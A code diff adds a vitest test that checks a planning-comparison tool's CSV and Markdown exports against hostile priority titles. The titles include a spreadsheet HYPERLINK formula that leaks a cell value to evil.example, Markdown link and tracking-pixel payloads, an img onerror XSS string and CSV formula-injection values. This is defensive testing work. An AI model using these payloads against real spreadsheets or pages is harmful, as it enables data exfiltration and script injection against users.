@@ -5,6 +5,7 @@
 import { execFile } from "node:child_process";
 import { promisify } from "node:util";
 import { parse } from "csv-parse/sync";
+import MarkdownIt from "markdown-it";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { repoRoot } from "../scripts/catalog";
 import type { ThemeComparison } from "../gateway/client/compare";
@@ -68,6 +69,35 @@ describe("npm run compare", () => {
       expect(r.band).toBe(""); // LAC has no polarity: no band
     }
     expect(rows.some((r) => r.section === "priority" && r.authority_code === "E06000003")).toBe(true);
+  });
+
+  it("neutralises editors' hostile priority titles: text cells in the CSV (OWASP), plain text in the Markdown", async () => {
+    const editor = await system.token({ role: "editor", authority: "E06000003" });
+    const plans = await system.query<{ authority: { plans: Array<{ id: string }> } }>(`{ authority(code: "E06000003") { ... on RedcarAndCleveland { plans { id } } } }`);
+    const planId = plans.data!.authority.plans[0]!.id;
+    const titles = [
+      `=HYPERLINK("https://evil.example/?leak="&C3,"Open") [Open](https://evil.example) <img src=x onerror=alert(1)>`,
+      // no quote or comma: the old writer left it unquoted, and the bare \r split the row
+      `-2+3\r@SUM(A1:A9) ![pixel](https://evil.example/p.png)`,
+      `＋1 full-width plus`,
+    ];
+    for (const title of titles) {
+      const created = await system.query(`mutation C($input: CreatePriorityInput!) { redcarAndCleveland { createPriority(input: $input) { id } } }`, { input: { planId, title, themes: [THEME], source: { section: "Hostile test" } } }, { token: editor });
+      expect(created.errors, title).toBeUndefined();
+    }
+
+    const { stdout: csvText } = await compare("--theme", THEME, "--authorities", "E06000003", "--format", "csv");
+    const rows = parse(csvText, { columns: true }) as Array<Record<string, string>>;
+    const items = rows.filter((r) => r.section === "priority").map((r) => r.item);
+    for (const title of titles) expect(items, title).toContain(`'${title}`);
+    // every cell quoted, the formula's quotes doubled, the ' inside the quotes
+    expect(csvText).toContain(`"priority","E06000003","Redcar and Cleveland","'=HYPERLINK(""https://evil.example/?leak=""&C3,""Open"")`);
+    expect(csvText).toContain(`"'-2+3\r@SUM(A1:A9)`);
+
+    const { stdout: md } = await compare("--theme", THEME, "--authorities", "E06000003");
+    const html = new MarkdownIt({ html: true }).render(md);
+    expect(html).not.toMatch(/<a |<img/);
+    expect(html).toContain("=HYPERLINK(&quot;https://evil.example/?leak=&quot;&amp;C3,&quot;Open&quot;) [Open](https://evil.example) &lt;img src=x onerror=alert(1)&gt;");
   });
 
   it("bad arguments are refused with a message naming them", async () => {
